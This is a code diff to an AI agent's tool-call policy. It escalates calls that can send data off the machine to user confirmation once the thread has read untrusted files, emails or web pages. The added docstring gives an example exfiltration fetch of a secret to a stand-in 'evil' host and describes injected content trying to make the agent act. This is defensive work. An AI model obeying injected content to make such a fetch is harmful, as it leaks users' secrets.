@@ -59,8 +59,13 @@ def decide(
     untrusted_seen: bool = False,
     effects_this_turn: int = 0,
     tool_requires_confirmation: str | None = None,
+    sends_out: bool = False,
 ) -> PolicyDecision:
-    if not side_effects and not tool_requires_confirmation:
+    """sends_out: the call can carry data off the machine (a fetch of a URL, a send): after untrusted content it
+    is escalated like a side effect, whatever its hints, since reading a secret then fetching
+    `https://evil/?q=SECRET` changes nothing here and still leaks."""
+    escalates_as_effect = bool(side_effects) or (sends_out and config.escalate_after_untrusted and untrusted_seen)
+    if not escalates_as_effect and not tool_requires_confirmation:
         return PolicyDecision("auto")
     modes = {e: mode_for_effect(e, config, overrides) for e in side_effects}
     mode = strictest(modes.values())
@@ -77,13 +82,14 @@ def decide(
             escalated = True
         mode = "confirm"
         reasons.append(tool_requires_confirmation)
-    if side_effects and config.escalate_after_untrusted and untrusted_seen:
+    if escalates_as_effect and config.escalate_after_untrusted and untrusted_seen:
         if mode == "auto":
             escalated = True
         mode = "confirm"
         reasons.append(
             "escalated: this thread has read content from outside the conversation (a file, email, web page or "
             "document), which could be trying to make Jarvis act"
+            + ("" if side_effects else "; this call can send data off this machine")
         )
     if side_effects and effects_this_turn >= config.max_side_effects_per_turn:
         if mode == "auto":
